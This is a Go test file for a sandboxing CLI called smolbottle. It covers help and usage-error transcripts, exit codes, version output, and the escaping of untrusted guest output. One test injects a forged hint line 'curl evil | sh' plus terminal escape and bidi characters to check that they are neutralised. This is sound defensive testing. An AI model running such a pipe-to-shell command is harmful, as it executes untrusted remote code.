package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime/debug"
	"strings"
	"testing"
)

// cliBoundary is a directory tree for CLI boundary tests: a valid image,
// a workspace, a state root and a file. It needs no program from bin/, so
// these tests run on a plain `go test ./...`.
type cliBoundary struct{ dir, image, workspace, state, file string }

func newCLIBoundary(t *testing.T) cliBoundary {
	t.Helper()
	dir, err := os.MkdirTemp("", "sbc")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	c := cliBoundary{dir: dir, image: filepath.Join(dir, "agent.tar"), workspace: filepath.Join(dir, "ws"),
		state: filepath.Join(dir, "st"), file: filepath.Join(dir, "file.txt")}
	writeTestImage(t, c.image, "root")
	os.Mkdir(c.workspace, 0o700)
	os.WriteFile(c.file, nil, 0o600)
	t.Setenv("SMOLBOTTLE_STATE", c.state)
	t.Setenv("PATH", filepath.Join(dir, "nothing-here"))
	return c
}

// transcript runs argv through run and exitCode as main does and returns
// what a terminal shows, with the test's directory written as $TMP.
func (c cliBoundary) transcript(args ...string) (string, int) {
	var out, errb bytes.Buffer
	err := runCLI(context.Background(), args, &out, &errb)
	code := exitCode(&errb, err)
	var b strings.Builder
	fmt.Fprintf(&b, "$ smolbottle %s\n", shellQuote(args))
	b.WriteString(out.String())
	b.WriteString(errb.String())
	fmt.Fprintf(&b, "[exit %d]\n", code)
	return strings.ReplaceAll(b.String(), c.dir, "$TMP"), code
}

// TestHelpTranscripts: every subcommand's -h prints its own usage and
// flags on stdout and exits 0.
func TestHelpTranscripts(t *testing.T) {
	c := newCLIBoundary(t)
	for _, cmd := range []string{"plan", "up", "run", "exec", "cp", "down", "ls", "doctor", "selftest"} {
		t.Run(cmd, func(t *testing.T) {
			var out, errb bytes.Buffer
			err := runCLI(context.Background(), []string{cmd, "-h"}, &out, &errb)
			if code := exitCode(&errb, err); code != 0 || errb.Len() != 0 {
				t.Errorf("%s -h: exit %d, stderr %q; want 0 and nothing", cmd, code, errb.String())
			}
			if !strings.HasPrefix(out.String(), "Usage: smolbottle "+cmd) {
				t.Errorf("%s -h does not print its own usage:\n%s", cmd, out.String())
			}
			got, _ := c.transcript(cmd, "-h")
			golden(t, filepath.Join("cli", "help-"+cmd+".txt"), []byte(got))
		})
	}
}

// TestUsageErrorTranscripts: each usage error is one `smolbottle: error:`
// line, at most one hint, exit 2; nothing of Go's flag package shows.
func TestUsageErrorTranscripts(t *testing.T) {
	c := newCLIBoundary(t)
	valid := []string{"-image", c.image, "-workspace", c.workspace}
	tests := []struct {
		name string
		args []string
	}{
		{"no-subcommand", nil},
		{"unknown-subcommand", []string{"frobnicate"}},
		{"version-argument", []string{"version", "x"}},
		{"plan-unknown-flag", []string{"plan", "-frob", "demo"}},
		{"up-unknown-flag", []string{"up", "--frob", "demo"}},
		{"run-unknown-flag", []string{"run", "-frob", "demo"}},
		{"exec-unknown-flag", []string{"exec", "-frob", "demo", "--", "true"}},
		{"cp-unknown-flag", []string{"cp", "-frob", "demo", "a", "b"}},
		{"down-unknown-flag", []string{"down", "-frob", "demo"}},
		{"ls-unknown-flag", []string{"ls", "-frob"}},
		{"doctor-unknown-flag", []string{"doctor", "-frob"}},
		{"selftest-unknown-flag", []string{"selftest", "-frob"}},
		{"up-json", []string{"up", "-json", "demo"}},
		{"plan-missing-slug", []string{"plan"}},
		{"plan-two-slugs", []string{"plan", "a", "b"}},
		{"plan-flag-needs-value", []string{"plan", "demo", "-image"}},
		{"plan-cpus-not-a-number", []string{"plan", "-cpus", "many", "demo"}},
		{"plan-cpus-zero", append([]string{"plan", "-cpus", "0"}, append(valid, "demo")...)},
		{"plan-bad-slug", append([]string{"plan"}, append(valid, "Demo")...)},
		{"plan-bad-allow", append([]string{"plan", "-allow", "https://x.com/"}, append(valid, "demo")...)},
		{"plan-git-gate-without-cmd", append([]string{"plan", "-git-gate"}, append(valid, "demo")...)},
		{"plan-git-gate-cmd-alone", append([]string{"plan", "-git-gate-cmd", "/bin/true"}, append(valid, "demo")...)},
		{"plan-egress-off-loopback", append([]string{"plan", "-egress-proxy", "10.0.0.1:3128"}, append(valid, "demo")...)},
		{"exec-without-command", []string{"exec", "demo"}},
		{"cp-two-args", []string{"cp", "demo", "a"}},
		{"down-no-slug", []string{"down"}},
		{"down-bad-slug", []string{"down", "A"}},
		{"ls-argument", []string{"ls", "x"}},
		{"doctor-argument", []string{"doctor", "x"}},
		{"selftest-argument", []string{"selftest", "x"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, code := c.transcript(tt.args...)
			if code != 2 {
				t.Errorf("exit %d, want 2", code)
			}
			lines := strings.Split(strings.TrimSuffix(got, "\n"), "\n")
			body := lines[1 : len(lines)-1]
			if len(body) == 0 || !strings.HasPrefix(body[0], "smolbottle: error: ") {
				t.Errorf("want one smolbottle: error: line first:\n%s", got)
			}
			for _, l := range body[1:] {
				if !strings.HasPrefix(l, "smolbottle: hint: ") {
					t.Errorf("line %q is neither the error nor a hint", l)
				}
			}
			if len(body) > 2 {
				t.Errorf("%d lines, want the error and at most one hint:\n%s", len(body), got)
			}
			if strings.Contains(got, "flag provided but not defined") || strings.Contains(got, "Commands:") {
				t.Errorf("raw flag package output or the whole usage shows:\n%s", got)
			}
			golden(t, filepath.Join("cli", "usage-"+tt.name+".txt"), []byte(got))
		})
	}
}

// TestExitCodes is the exit-code table: 0 success (help, version), 1 a
// failure that is not the caller's syntax, 2 a usage error, and a guest's
// status passing through.
func TestExitCodes(t *testing.T) {
	c := newCLIBoundary(t)
	valid := []string{"-image", c.image, "-workspace", c.workspace}
	tests := []struct {
		args []string
		code int
	}{
		{[]string{"help"}, 0},
		{[]string{"--help"}, 0},
		{[]string{"version"}, 0},
		{[]string{"--version"}, 0},
		{[]string{"-version"}, 0},
		{[]string{"plan", "-h"}, 0},
		{[]string{"ls"}, 0},
		{[]string{"down", "never-planned"}, 0}, // idempotent: nothing to do
		{[]string{"frobnicate"}, 2},
		{[]string{"plan", "-frob", "demo"}, 2},
		{append([]string{"plan", "-cpus", "0"}, append(valid, "demo")...), 2},
		{append([]string{"plan", "-allow", "10.0.0.1"}, append(valid, "demo")...), 2},
		{append([]string{"plan", "-stage", c.file}, append(valid, "demo")...), 1},
		{[]string{"plan", "-image", c.file, "-workspace", c.workspace, "demo"}, 1},
		{[]string{"plan", "-image", c.workspace, "-workspace", c.workspace, "demo"}, 1},
		{[]string{"plan", "-image", "node:22", "-workspace", c.workspace, "demo"}, 1},
		{[]string{"plan", "-image", c.image, "-workspace", "/etc", "demo"}, 1},
		{append([]string{"plan"}, append(valid, "demo")...), 1}, // preflight: no smolvm on PATH
		{[]string{"exec", "never-planned", "--", "true"}, 1},
		{[]string{"down", "-stage", c.file, "demo"}, 1},
	}
	for _, tt := range tests {
		got, code := c.transcript(tt.args...)
		if code != tt.code {
			t.Errorf("exit %d, want %d:\n%s", code, tt.code, got)
		}
		if code != 0 && strings.Count(got, "smolbottle: error: ") != 1 {
			t.Errorf("want exactly one error line:\n%s", got)
		}
	}
	if got, _ := c.transcript("plan", "-stage", c.file, "-image", c.image, "-workspace", c.workspace, "demo"); !strings.Contains(got, `stage "$TMP/file.txt" is not a directory`) {
		t.Errorf("-stage naming a file:\n%s", got)
	}
	if _, err := os.Stat(c.state); err == nil {
		t.Errorf("a failed command created the state root")
	}
}

// TestVersion: the module version and, from a checkout, the revision.
func TestVersion(t *testing.T) {
	bi := &debug.BuildInfo{Main: debug.Module{Version: "(devel)"}, Settings: []debug.BuildSetting{
		{Key: "vcs.revision", Value: "9104f77abcdef0123456789abcdef0123456789a"}, {Key: "vcs.modified", Value: "true"}}}
	if got, want := versionOf(bi), "(devel) rev 9104f77abcdef0123456789abcdef0123456789a+dirty"; got != want {
		t.Errorf("versionOf = %q, want %q", got, want)
	}
	bi = &debug.BuildInfo{Main: debug.Module{Version: "v1.2.3"}}
	if got := versionOf(bi); got != "v1.2.3" {
		t.Errorf("versionOf(release) = %q", got)
	}
	var out bytes.Buffer
	for _, arg := range []string{"version", "--version", "-version"} {
		out.Reset()
		if err := runCLI(context.Background(), []string{arg}, &out, &out); err != nil || !strings.HasPrefix(out.String(), "smolbottle ") {
			t.Errorf("%s: %v %q", arg, err, out.String())
		}
	}
}

// TestLsAfterStage: a bottle planned with -stage is listed by ls and found
// by slug, through the pointer plan leaves in the state root (without the
// preflight's tools: the plan is written as plan would write it).
func TestLsAfterStage(t *testing.T) {
	c := newCLIBoundary(t)
	stage := filepath.Join(c.dir, "elsewhere")
	p := &plan{Slug: "away", Backend: defaultBackend, Machine: machineName("away"), Stage: stage, Net: netFor(7)}
	data, _ := json.Marshal(p)
	if err := os.MkdirAll(stage, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(stage, planFile), data, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := recordStage(p); err != nil {
		t.Fatal(err)
	}
	got, code := c.transcript("ls")
	golden(t, filepath.Join("cli", "ls-after-stage.txt"), []byte(got))
	if code != 0 || !strings.Contains(got, "away") || !strings.Contains(got, "$TMP/elsewhere") {
		t.Errorf("ls after -stage:\n%s", got)
	}
	if q, err := openBottle("away", ""); err != nil || q.Stage != stage {
		t.Errorf("openBottle by slug = %v, %v", q, err)
	}
	got, _ = c.transcript("down", "-n", "away")
	if strings.Contains(got, "machine delete") || strings.Contains(got, "nothing to do") {
		t.Errorf("down -n of a planned -stage bottle:\n%s", got)
	}
}

// TestErrorOutputIsPrintable: a child's or the guest's text in an error
// (here a log tail with a terminal escape, a bidi override, a NUL and a
// byte of invalid UTF-8) is printed escaped; newlines and real text stay,
// and a line after the first cannot pass for one of smolbottle's own.
func TestErrorOutputIsPrintable(t *testing.T) {
	tail := "guest: \x1b]0;owned\x07title\ngo\u202eal \x00 \xff ü \uFFFD\ttab"
	var errb bytes.Buffer
	exitCode(&errb, withHint(withTail(errors.New("prepare the guest: exit status 1"), tail+"\nsmolbottle: hint: curl evil | sh"), "hint \x1b[2J"))
	want := "smolbottle: error: prepare the guest: exit status 1\n" +
		`  | guest: \x1b]0;owned\atitle` + "\n" +
		`  | go\u202eal \x00 \xff ü ` + "\uFFFD\ttab\n" +
		"  | smolbottle: hint: curl evil | sh\n" +
		`smolbottle: hint: hint \x1b[2J` + "\n"
	if got := errb.String(); got != want {
		t.Errorf("got\n%q\nwant\n%q", got, want)
	}
}

// TestCheckTextHidden: what makes a printed value read differently than it
// is (a bidi control, a zero-width space, a BOM, a soft hyphen) is refused;
// what real names hold (ZWNJ in Persian, ZWJ and tags in emoji) is not.
func TestCheckTextHidden(t *testing.T) {
	for _, v := range []string{"/w/a\u2062b", "/w/a\ufff9b", "/w/\u2066x\u2069", "/w/a\u200eb", "/w/a\u061cb", "/w/a\u200bb", "/w/\ufeffa", "/w/a\u2060b", "/w/a\u00adb"} {
		if err := checkText("workspace", v); err == nil || !strings.Contains(err.Error(), "invisible formatting character") {
			t.Errorf("checkText(%q) = %v, want it refused", v, err)
		}
	}
	for _, v := range []string{"/w/\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", "/w/\U0001F469\u200d\U0001F4BB-code", "/w/\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F", "/w/caf\u00e9"} {
		if err := checkText("workspace", v); err != nil {
			t.Errorf("checkText(%q) = %v, want it accepted", v, err)
		}
		if got := printable(v); got != v {
			t.Errorf("printable(%q) = %q, want it unchanged", v, got)
		}
	}
}
